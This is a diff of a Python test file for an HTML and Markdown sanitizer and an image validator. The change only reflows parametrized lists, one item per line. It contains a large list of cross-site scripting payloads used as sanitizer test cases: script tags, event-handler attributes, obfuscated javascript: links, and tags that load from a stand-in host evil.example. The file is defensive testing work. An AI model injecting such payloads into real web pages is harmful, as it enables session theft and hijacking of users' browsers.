@@ -68,12 +68,18 @@ def test_safe_png_makes_large_images_smaller() -> None:
 @pytest.mark.parametrize(
     "data",
     [
-        huge_png(20_000), huge_png(4_000), huge_png(2_000), "A" * 20_000_000, "no base64 at all!", "",
-        base64.b64encode(b"<svg onload=alert(1)>").decode(), encoded(Image.new("RGB", (9, 9)), "GIF"),
+        huge_png(20_000),
+        huge_png(4_000),
+        huge_png(2_000),
+        "A" * 20_000_000,
+        "no base64 at all!",
+        "",
+        base64.b64encode(b"<svg onload=alert(1)>").decode(),
+        encoded(Image.new("RGB", (9, 9)), "GIF"),
         encoded(Image.new("RGB", (99, 99)))[:80],
     ],
     ids=["bomb", "over the limit", "cut short", "bytes", "text", "empty", "svg", "gif", "truncated"],
-)  # fmt: skip
+)
 def test_safe_png_refuses(data: str) -> None:
     with pytest.raises(ValueError, match="image"):
         safe_png(data)
@@ -97,8 +103,18 @@ def test_outputs_keep_images_and_text_and_name_what_was_left_out() -> None:
     assert kept[4].text == "[left out: an output that is neither an image nor text]\n"
 
 
-@pytest.mark.parametrize("outputs", [None, 3, [None], [{}], [{"output_type": "display_data", "data": 3}],
-                                     [{"output_type": "stream", "text": {"a": 1}}], [{"output_type": ["x"]}]])  # fmt: skip
+@pytest.mark.parametrize(
+    "outputs",
+    [
+        None,
+        3,
+        [None],
+        [{}],
+        [{"output_type": "display_data", "data": 3}],
+        [{"output_type": "stream", "text": {"a": 1}}],
+        [{"output_type": ["x"]}],
+    ],
+)
 def test_outputs_of_any_shape_are_taken(outputs: object) -> None:
     assert all(output.output_type == "stream" for output in SafeOutputs().of_cell(outputs))
 
@@ -109,27 +125,65 @@ def test_text_is_cut_and_without_escapes() -> None:
     assert plain_text("\x1b]8;;http://evil\x07link\x1b]8;;\x07 \x9b31m\u202egnp.exe\r\n\ta") == "link 31mgnp.exe\n\ta"
 
 
-@pytest.mark.parametrize("text", [
-    "Because $a<b$ and $c < d$, **so** `x < y`.", "1. one\n2. two", "[page](https://example.org)",
-    "| a | b |\n|---|---|\n| 1 | 2 |", "$$\\frac{1}{p} \\sum_i x_i$$",
-])  # fmt: skip
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Because $a<b$ and $c < d$, **so** `x < y`.",
+        "1. one\n2. two",
+        "[page](https://example.org)",
+        "| a | b |\n|---|---|\n| 1 | 2 |",
+        "$$\\frac{1}{p} \\sum_i x_i$$",
+    ],
+)
 def test_safe_markdown_leaves_ordinary_answers_readable(text: str) -> None:
     assert safe_markdown(text).replace("< ", "<") == text.replace("< ", "<")
 
 
 ATTACKS = [
-    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js>", "<img src=x onerror=alert(1)>", "<<img src=x onerror=alert(1)>",
-    "<svg/onload=alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<!-- --><b onmouseover=alert(1)>x",
-    "[a](javascript:alert(1))", "[a](JaVaScRiPt:alert(1))", "[a](java\nscript:alert(1))", "[a]( javascript:alert(1))",
-    "[a](&#106;avascript:alert(1))", "[a](javascript&colon;alert(1))", "[a](&#x6A&#x61&#x76&#x61&#x73cript:alert(1))",
-    "[a](\x01javascript:alert(1))", "[a](vbscript:x)", "[a](data:text/html;base64,PHNjcmlwdD4=)", "<javascript:alert(1)>",
-    "[a]: javascript:alert(1)\n\n[a]", "![a](javascript:alert(1))", "![a](x\" onerror=\"alert(1))", "[a](x 'y\" onclick=\"alert(1)')",
-    "![a](data:image/svg+xml;base64,PHN2Zz4=)", "```html\"onclick=alert(1)\nx\n```", "`<script>`", "    <script>alert(1)</script>",
-    "$\\href{javascript:alert(1)}{x}$", "$<img src=x onerror=alert(1)>$", "$$\n<script>alert(1)</script>\n$$", "\\begin{x}<script>alert(1)</script>\\end{x}",
-    "# <script>alert(1)</script>", "| <script>alert(1)</script> |\n|---|\n", "<a href=`javascript:alert(1)`>", "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "\x1b[31m<script>alert(1)</script>", "<style>@import '//evil.example'</style>", "<form action=//evil.example><input>", "<base href=//evil.example>",
-    "# x {onclick=alert(1)}", "![a](attachment:x.svg)", "<math><mtext><script>alert(1)</script></mtext></math>", "<\u200bscript>", "\uff1cscript\uff1e",
-]  # fmt: skip
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js>",
+    "<img src=x onerror=alert(1)>",
+    "<<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<!-- --><b onmouseover=alert(1)>x",
+    "[a](javascript:alert(1))",
+    "[a](JaVaScRiPt:alert(1))",
+    "[a](java\nscript:alert(1))",
+    "[a]( javascript:alert(1))",
+    "[a](&#106;avascript:alert(1))",
+    "[a](javascript&colon;alert(1))",
+    "[a](&#x6A&#x61&#x76&#x61&#x73cript:alert(1))",
+    "[a](\x01javascript:alert(1))",
+    "[a](vbscript:x)",
+    "[a](data:text/html;base64,PHNjcmlwdD4=)",
+    "<javascript:alert(1)>",
+    "[a]: javascript:alert(1)\n\n[a]",
+    "![a](javascript:alert(1))",
+    '![a](x" onerror="alert(1))',
+    "[a](x 'y\" onclick=\"alert(1)')",
+    "![a](data:image/svg+xml;base64,PHN2Zz4=)",
+    '```html"onclick=alert(1)\nx\n```',
+    "`<script>`",
+    "    <script>alert(1)</script>",
+    "$\\href{javascript:alert(1)}{x}$",
+    "$<img src=x onerror=alert(1)>$",
+    "$$\n<script>alert(1)</script>\n$$",
+    "\\begin{x}<script>alert(1)</script>\\end{x}",
+    "# <script>alert(1)</script>",
+    "| <script>alert(1)</script> |\n|---|\n",
+    "<a href=`javascript:alert(1)`>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "\x1b[31m<script>alert(1)</script>",
+    "<style>@import '//evil.example'</style>",
+    "<form action=//evil.example><input>",
+    "<base href=//evil.example>",
+    "# x {onclick=alert(1)}",
+    "![a](attachment:x.svg)",
+    "<math><mtext><script>alert(1)</script></mtext></math>",
+    "<\u200bscript>",
+    "\uff1cscript\uff1e",
+]
 
 
 class Page(HTMLParser):
